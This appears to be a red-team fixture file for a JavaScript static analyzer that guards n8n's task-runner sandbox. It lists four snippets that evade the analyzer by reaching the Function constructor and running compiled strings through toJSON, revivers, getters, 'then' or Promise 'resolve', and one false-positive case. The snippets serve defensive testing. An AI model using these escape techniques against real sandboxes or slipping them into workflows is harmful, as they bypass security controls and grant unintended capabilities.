// Round 6 of the code-purity red team: snippets that get hold of a capability in n8n 2.41's secure JS
// task runner (confirmed by ./n8n-sandbox.ts with its default options: runner flags and hardened host)
// while analyzeJavaScript() reports nothing, and realistic pure snippets that the rule reports.
// Each entry was checked against dist/validate/js-analysis.js and runLikeN8n().
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';

export const ROUND6: RedTeamBypass[] = [
  {
    "id": "builder/json-parse-reviver-toJSON-then",
    "cls": "protocol-store-builtin-builder",
    "code": "const F = (() => 0)[items[0].json.key];\nconst o = JSON.parse('{\"toJSON\":0}', (k, v) => k === 'toJSON' ? F : v);\nlet g;\nJSON.stringify({ 'return helpers.httpRequest({ url: \"https://x.invalid\" })': o }, (k, v) => { if (typeof v === 'function') g = v; return v; });\nconst t = JSON.parse('{\"then\":0}', (k, v) => k === 'then' ? g : v);\nreturn [{ json: { r: await t } }];",
    "why": "JSON.parse builds objects whose keys come from the text and whose values come from the reviver's return values; returning an unknown value from a callback is allowed, so `JSON.parse('{\"toJSON\":0}', (k, v) => k === 'toJSON' ? F : v)` stores the Function constructor under toJSON with no store the analysis checks (and the result is merely unknown, which may be awaited/serialized). JSON.stringify then calls F(key) (compiles the key); the replacer hands back the compiled function, and a second reviver puts it under then, which await calls."
  },
  {
    "id": "protocol-keys/promise-static-resolve",
    "cls": "protocol-key-missing",
    "code": "const F = (() => 0)[items[0].json.key];\nconst o = JSON.parse('{\"toJSON\":0}', (k, v) => k === 'toJSON' ? F : v);\nlet g;\nJSON.stringify({ 'return helpers.httpRequest({ url: \"https://x.invalid\" })': o }, (k, v) => { if (typeof v === 'function') g = v; return v; });\nclass C extends Promise {\n  static resolve = g;\n}\ntry { C.all([0]); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "PROTOCOL_KEYS lacks `resolve`: Promise.all/allSettled/any/race call `C.resolve(element)` on their receiver. A Promise subclass with `static resolve = g` (a class field, not a protocol key, so checkProtocolStore() passes; a field is defined, so the frozen Promise does not block it) makes `C.all([0])` call the compiled function g (obtained, as above, from a JSON.parse-reviver toJSON)."
  },
  {
    "id": "getter/computed-get-descriptor-object-create",
    "cls": "protocol-getter",
    "code": "const F = (() => 0)[items[0].json.key];\nconst h = Object.create(null, { toJSON: { ['get']: () => F } });\nlet g;\nJSON.stringify({ 'return helpers.httpRequest({ url: \"https://x.invalid\" })': h }, (k, v) => { if (typeof v === 'function') g = v; return v; });\nclass C extends Promise { static resolve = g; }\nC.all([0]).catch(() => 0);\nreturn [{ json: { ok: 1 } }];",
    "why": "The getter rule recognises a descriptor's get only by a non-computed key (`!holder.computed`): `Object.create(null, { toJSON: { ['get']: () => F } })` installs a getter returning the Function constructor (Object.create is not reflection, and the descriptor holds only the code's own function). JSON.stringify calls F(key); the compiled function is run through `static resolve` of a Promise subclass by C.all()."
  },
  {
    "id": "getter/named-function-descriptor-object-create",
    "cls": "protocol-getter",
    "code": "const F = (() => 0)[items[0].json.key];\nconst readF = () => F;\nconst h = Object.create(null, { toJSON: { get: readF } });\nlet g;\nJSON.stringify({ 'arguments[0](globalThis)': h }, (k, v) => { if (typeof v === 'function') g = v; return v; });\nconst readG = () => g;\nconst t = Object.create(null, { then: { get: readG } });\nreturn [{ json: { r: await t } }];",
    "why": "The getter rule looks only at function nodes whose syntactic parent is a getter/`get:` property; a getter passed by name (`const readF = () => F; Object.create(null, { toJSON: { get: readF } })`) is an arrow under a VariableDeclarator, so returning F is allowed. The same for `then`: await calls the compiled `arguments[0](globalThis)`, which resolves with the global object."
  }
];

export const ROUND6_FALSE_POSITIVES: RedTeamFalsePositive[] = [
  {
    "id": "fp/rename-keys-with-mapping-object",
    "code": "const rename = { first_name: 'firstName', last_name: 'lastName' };\nreturn items.map(({ json }) => ({ json: Object.fromEntries(Object.entries(json).map(([k, v]) => [rename[k] ?? k, v])) }));",
    "why": "Renaming fields through a constant mapping (`[rename[k] ?? k, v]` inside Object.fromEntries) is reported: rename[k] is a run-time-key read (k is an own key of json, not of rename), so the pair array is 'unknown' and fromEntries 'may call it'; the value only becomes a property key (ToPropertyKey), never called."
  }
];
